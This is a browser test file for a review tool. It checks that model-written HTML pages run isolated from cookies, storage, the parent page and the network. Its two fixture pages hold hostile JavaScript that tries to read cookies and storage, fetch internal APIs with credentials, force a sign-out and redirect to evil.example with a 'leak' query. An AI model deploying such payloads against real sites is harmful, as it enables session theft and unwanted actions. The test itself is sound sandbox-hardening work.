"""A page that a response wrote runs apart: no cookie, no store, no network, no way to the desk."""

from __future__ import annotations

from typing import Any

import pytest
from playwright.sync_api import Frame, Page, Route, expect

from harness.models import RunInfo
from harness.models.review import NewItem, Role, Source
from harness.store import ReviewStore, Store
from tests.review import samples
from tests.review.conftest import Seats

pytestmark = pytest.mark.browser
RUN = "20300101-live"
# Each try leaves a word: what it got, or that it was refused.
HOSTILE = """<!doctype html><title>x</title><body><form id=f method=post action=/sign-out></form>
<img src="https://evil.example/x.png" onerror="said.image = 'refused'"><script>
const said = window.said = {};
const note = (name, get) => {
  try { said[name] = String(get()); } catch (e) { said[name] = 'refused'; }
};
note('origin', () => self.origin);
note('cookie', () => document.cookie);
note('storage', () => localStorage.length);
note('session', () => sessionStorage.length);
note('database', () => { indexedDB.open('x'); return 'open'; });
note('parent', () => parent.document.body.textContent);
note('top', () => top.location.href);
note('opener', () => window.open('/manage/people'));
note('navigate', () => { top.location = 'https://evil.example'; return 'sent'; });
note('worker', () => { new Worker('data:text/javascript,1'); return 'made'; });
note('submit', () => { document.getElementById('f').submit(); return 'sent'; });
note('alert', () => alert('pwned'));
for (const url of ['/api/me', '/api/manage/people', 'https://evil.example/x'])
  fetch(url, {credentials: 'include'}).then((r) => r.text()).then((t) => said[url] = t)
    .catch(() => said[url] = 'refused');
fetch('/api/projects/pages/next', {method: 'POST', mode: 'no-cors', credentials: 'include'})
  .then(() => said.post = 'sent').catch(() => said.post = 'refused');
navigator.sendBeacon && note('beacon', () => navigator.sendBeacon('/sign-out', 'x'));
parent.postMessage({type: 'submit', preference: 3}, '*');
</script><iframe src="/manage/people"></iframe><object data="/manage/people"></object>"""


LEAVING = """<script>
document.title = 'evil.example';
for (const url of ['https://evil.example/?leak', '/sign-out', '/manage/people', 'javascript:1'])
  try { location = url; } catch { }
</script><meta http-equiv=refresh content="0;url=https://evil.example/?refresh">"""


def add_pages(store: Store, review: ReviewStore) -> None:
    """A project ``pages`` with an item of two hostile pages."""
    rows = [
        one.model_copy(update={"code": code, "response_id": f"live/{side}"})
        for side, one, code in zip("01", samples.html_results(), (HOSTILE, LEAVING), strict=True)
    ]
    store.create_run(RunInfo(run_id=RUN, started_at="2030-01-01T00:00:00Z"))
    store.add_tasks(RUN, [samples.html_task()])
    store.add_results(RUN, list(enumerate(rows)))
    samples.make_project(review, "pages", merges=0)
    sources = tuple(Source(run_id=RUN, response_id=one.response_id) for one in rows)
    review.add_items("pages", [NewItem(task_id="counter", responses=sources)])


def hostile_item(review: ReviewStore, person_id: str) -> str:
    """The assignment that shows it; what comes before in the project is passed on."""
    while True:
        claimed = review.claim_next("pages", person_id)
        assert claimed is not None
        if "said" in review.responses_of(claimed.item_id)[0].result.code:
            return claimed.assignment_id
        review.escalate(claimed.assignment_id, person_id, "not this")


def said_by(place: Frame) -> dict[str, Any]:
    place.wait_for_function(
        "window.said && said['/api/me'] && said.post && said['https://evil.example/x']"
    )
    found: dict[str, Any] = place.evaluate("said")
    return found


def test_a_hostile_page_gets_nothing_and_goes_nowhere(
    sit: Seats, store: Store, review: ReviewStore
) -> None:
    add_pages(store, review)
    seat = sit("mia", Role.MANAGER)
    work = hostile_item(review, seat.site.person_id("mia"))
    asked: list[tuple[str, str]] = []
    seat.context.on("request", lambda one: asked.append((one.method, one.url)))
    # What the policy stops never gets as far as this.
    left: list[str] = []

    def stopped(route: Route) -> None:
        left.append(route.request.url)
        route.abort()

    seat.context.route("https://evil.example/**", stopped)
    page = seat.go(f"/desk/{work}")
    order = review.assignment(work).order
    talks, leaves = ("AB"[order.index(place)] for place in (1, 2))
    said = said_by(run_page(page, talks))
    assert said["origin"] == "null"
    refused = {name for name, word in said.items() if word == "refused"}
    assert refused >= {"cookie", "storage", "session", "parent", "top", "post", "image"}
    assert refused >= {"/api/me", "/api/manage/people", "https://evil.example/x"}
    assert said["opener"] in {"null", "refused"}
    assert "Mia" not in str(said)
    run_page(page, leaves)
    expect(page.locator("#left")).not_to_be_empty()
    # The desk is where it was, nobody is signed out, and nothing was asked of anybody.
    assert page.url.endswith(f"/desk/{work}")
    assert left == []
    assert [url for method, url in asked if method == "POST" and "/heartbeat" not in url] == []
    assert review.assignment(work).state.value == "claimed"
    assert seat.context.request.get(f"{seat.site.address}/api/me").ok
    # By itself in a tab it is not served at all: there it could lead the tab anywhere.
    answer = seat.context.new_page().goto(f"{seat.site.address}/desk/{work}/live/{talks}")
    assert answer is not None
    assert answer.status == 404
    # What the hostile pages complained about is their own business.
    seat.complaints.clear()


def run_page(page: Page, letter: str) -> Frame:
    """Run the page of a response at the desk."""
    response = page.locator(f"#response-{letter}")
    response.locator('[data-tab="page"]').click()
    response.get_by_role("button", name="Run the page here").click()
    frame = response.locator(".live iframe").element_handle(timeout=8_000).content_frame()
    assert frame is not None
    return frame
